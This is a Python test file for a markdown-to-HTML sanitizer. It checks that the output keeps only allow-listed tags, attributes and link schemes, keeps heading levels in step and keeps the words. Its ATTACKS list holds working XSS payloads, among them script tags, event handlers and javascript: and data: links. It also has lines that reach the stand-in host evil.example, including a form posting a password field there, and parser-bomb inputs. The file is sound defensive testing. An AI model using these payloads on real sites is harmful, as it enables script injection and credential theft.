"""Markdown becomes clean HTML: nothing that runs, no heading out of step, and no word lost."""

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from policies.domain.markdown import as_html, as_inline_html, as_plain_text, is_empty

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    '<p onclick="alert(1)">words</p>',
    '<a href="https://ok.example" onmouseover="alert(1)">words</a>',
    "[words](javascript:alert(1))",
    "[words](JaVaScRiPt:alert(1))",
    "[words](&#106;avascript:alert(1))",
    "[words](java\tscript:alert(1))",
    '<a href=" javascript:alert(1)">words</a>',
    "[words](vbscript:alert(1))",
    "[words](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![words](data:image/svg+xml,<svg onload=alert(1)>)",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>words</a></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<style>body{background:url(https://evil.example)}</style>",
    '<p style="background:url(https://evil.example)">words</p>',
    '<iframe src="https://evil.example"></iframe>',
    "<object data=x></object><embed src=x>",
    '<form action="https://evil.example"><input name=password><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "`` ` ``<img src=x onerror=alert(1)>",
    "> <img src=x onerror=alert(1)>\n>\n> * <svg/onload=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    '*[x]: "><img src=x onerror=alert(1)>\n\nx',
    "&lt;b onclick=x&gt;\u0002wzxhzdk:0\u0003<b onclick=alert(1)>",
]

# All that may ever be in a page: no other element, no other attribute.
ELEMENTS = {
    "p", "br", "hr", "strong", "em", "code", "pre", "blockquote", "abbr", "sup", "sub", "ul", "ol",
    "li", "dl", "dt", "dd", "h2", "h3", "h4", "h5", "h6", "a", "table", "caption", "thead",
    "tbody", "tr", "th", "td", "bdi", "ins", "del",
}  # fmt: skip
ATTRIBUTES = {"href", "title", "start", "scope", "colspan", "rowspan", "align", "dir"}
TAG = re.compile(r"<(/?)([a-zA-Z][^\s/>]*)((?:\s[^<>]*)?)>")
ATTRIBUTE = re.compile(r'([^\s="]+)="([^"]*)"')
# What a browser takes for a scheme (URL Standard, 4.4), tabs and line ends left out.
SCHEME = re.compile(r"[\x00-\x20]*([a-zA-Z][a-zA-Z0-9+.-]*):")


def assert_harmless(html):
    assert len(TAG.findall(html)) == html.count("<"), html
    for _, name, rest in TAG.findall(html):
        assert name in ELEMENTS
        assert ATTRIBUTE.sub("", rest).strip() == "", html
        for attribute, value in ATTRIBUTE.findall(rest):
            assert attribute in ATTRIBUTES
            scheme = SCHEME.match(re.sub(r"[\t\n\r]", "", value))
            if attribute == "href" and scheme:
                assert scheme[1].lower() in {"https", "http", "mailto", "tel"}


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_or_reaches_out_stays(attack):
    assert_harmless(as_html(f"Before.\n\n{attack}\n\nAfter."))
    assert_harmless(as_html(attack))
    assert_harmless(as_inline_html(attack))


@pytest.mark.parametrize("attack", [a for a in ATTACKS if "words" in a and "<svg" not in a])
def test_the_words_stay_when_the_markup_goes(attack):
    if not attack.startswith("!"):
        assert "words" in as_plain_text(attack)


@pytest.mark.parametrize("attack", [a for a in ATTACKS if not a.startswith(("<!--", "<script\n"))])
def test_the_words_around_an_attack_stay(attack):
    text = as_plain_text(f"Before.\n\n{attack}\n\nAfter.")
    assert text.startswith("Before.")


def test_no_element_has_an_attribute_that_it_was_not_given():
    assert as_html('<p lang="cy" title="words">words</p>') == "<p>words</p>"
    assert as_inline_html("words</p><p title='words'>others") == "<p>words</p><p>others</p>"


def test_what_is_left_of_a_form_nests_as_a_browser_nests_it():
    assert as_html("<select>words") == "<p>words</p><p></p><p></p>"


def test_plain_markdown_is_rendered():
    html = as_html("Use **care** and *tact*:\n\n- one\n- two\n\n| A | B |\n|---|---|\n| 1 | 2 |")
    for part in (
        "<strong>care</strong>",
        "<em>tact</em>",
        "<li>one</li>",
        '<th scope="col">A</th>',
        "<td>2</td>",
    ):
        assert part in html


def test_a_head_cell_that_says_what_it_heads_is_left_alone():
    html = as_html('<table><tr><th scope="row">A</th><th>B</th></tr></table>')
    assert '<th scope="row">A</th>' in html
    assert '<th scope="col">B</th>' in html


def levels(html):
    return [int(level) for level in re.findall(r"<h([1-6])", html)]


@pytest.mark.parametrize("below", [1, 2, 3, 4])
@pytest.mark.parametrize(
    "text",
    [
        "# A\n\n### B\n\n## C\n\n# D",
        "### A\n\n# B",
        "###### A\n\n##### B\n\n#### C",
        "A\n=\n\nB\n-\n\n### C",
        "> # A\n>\n> ## B\n\n- # C",
        "<h1>A</h1>\n\n<h4>B</h4>",
        '<h1 class="big">A</h1>',
        "<H2>A</H2>",
        "<h2\n>A</h2>",
        "# A\n\n<h3 id='b'>B</h3>\n\n## C",
    ],
)
def test_headings_stay_below_their_section_and_skip_no_step(text, below):
    found = levels(as_html(text, below=below))
    assert found
    assert found[0] == below + 1
    for level, following in zip(found, found[1:], strict=False):
        assert below < following <= level + 1


def test_a_heading_never_goes_deeper_than_html_has():
    assert levels(as_html("# A\n\n## B\n\n### C\n\n#### D", below=4)) == [5, 6, 6, 6]


@pytest.mark.parametrize(
    "dead",
    ["[words](#)", "[words]()", '<a href="">words</a>', "<a>words</a>", '<a name="x">words</a>',
     "[words](javascript:x)", "[**words**](#)"],
)  # fmt: skip
def test_a_link_that_leads_nowhere_becomes_words(dead):
    html = as_html(dead)
    assert "<a" not in html
    assert "words" in html


@pytest.mark.parametrize(
    "address",
    ["https://council.example/a?b=1", "mailto:dem@council.example", "tel:01632960001",
     "/documents/a/", "#s-1"],
)  # fmt: skip
def test_a_link_that_leads_somewhere_stays(address):
    assert f'href="{address}"' in as_html(f"[words]({address})")


def test_inline_html_is_one_paragraph_without_the_paragraph():
    assert as_inline_html("Use *tact*.") == "Use <em>tact</em>."
    assert as_inline_html("One.\n\nTwo.").count("<p>") == 2


def test_plain_text_has_the_words_and_no_markup():
    text = "## Head\n\nUse **care** &amp; [tact](https://a.example).\n\n- one\n- two\n\n`<b>`"
    assert as_plain_text(text).splitlines() == ["Head", "Use care & tact.", "one", "two", "<b>"]


@pytest.mark.parametrize("text", ["one<br>two", "one<br/>two", "one  \ntwo", "a\n\n<hr>b"])
def test_words_on_two_lines_do_not_become_one_word(text):
    assert len(as_plain_text(text).split()) == 2


@pytest.mark.parametrize(
    "text", ["", "  \n\n ", "<!-- note -->", "&nbsp;", "---", "<script>x</script>", "[](#)", "#"]
)
def test_a_text_without_a_word_is_empty(text):
    assert is_empty(text)


@pytest.mark.parametrize("text", ["a", "- one", "`x`", "<div>word</div>", "# A", "| a |\n|---|"])
def test_a_text_with_a_word_is_not_empty(text):
    assert not is_empty(text)


PLAIN = st.lists(
    st.text("abcdefghijklmnopqrstuvwxyzéŵ’", min_size=1, max_size=8), min_size=1, max_size=6
).map(" ".join)


@given(PLAIN)
@settings(deadline=None, max_examples=60)
def test_plain_words_stay_as_they_are_however_often_they_are_rendered(words):
    assert as_html(words) == f"<p>{words}</p>"
    assert as_plain_text(words) == words
    assert as_plain_text(as_plain_text(words)) == words
    assert as_html(as_html(words)).strip() == as_html(words)


MARKS = st.text(
    st.sampled_from("ab1 \n\t#*_`~[]()<>!|-+=:;.&/\\\"'^{}\u0002\u0003\u0000\xa0\u2028é\U0001f600"),
    max_size=80,
)


@given(st.text(max_size=80) | MARKS, st.integers(1, 5))
@example("> " * 400 + "deep", 2)
@example("- " * 400 + "deep", 2)
@example("[" * 400, 2)
@example("<a>" * 400, 2)
@example("*" * 400 + "a", 2)
@settings(deadline=None, max_examples=200)
def test_no_text_whatever_is_refused_or_harmful(text, below):
    html = as_html(text, below=below)
    assert_harmless(html)
    assert all(level > below or level == 6 for level in levels(html))
    as_plain_text(text)
    as_inline_html(text)


@pytest.mark.parametrize(
    "text",
    ["half \ud83d a character", "1. " * 1500 + "deep"],
    ids=["half a character", "deep list"],
)
def test_not_even_a_text_that_breaks_the_parser_is_an_error(text):
    assert_harmless(as_html(text))


@pytest.mark.parametrize("bomb", ["[" * 60_000, "![[" * 20_000, "[a](" * 10_000, "*_" * 30_000])
def test_a_text_of_markup_alone_comes_to_an_end(bomb):
    assert_harmless(as_html(bomb))


def test_a_link_among_many_brackets_stays_a_link():
    html = as_html("See [1].\n\n" * 600 + "[the code](https://code.example/)")
    assert '<a href="https://code.example/">the code</a>' in html
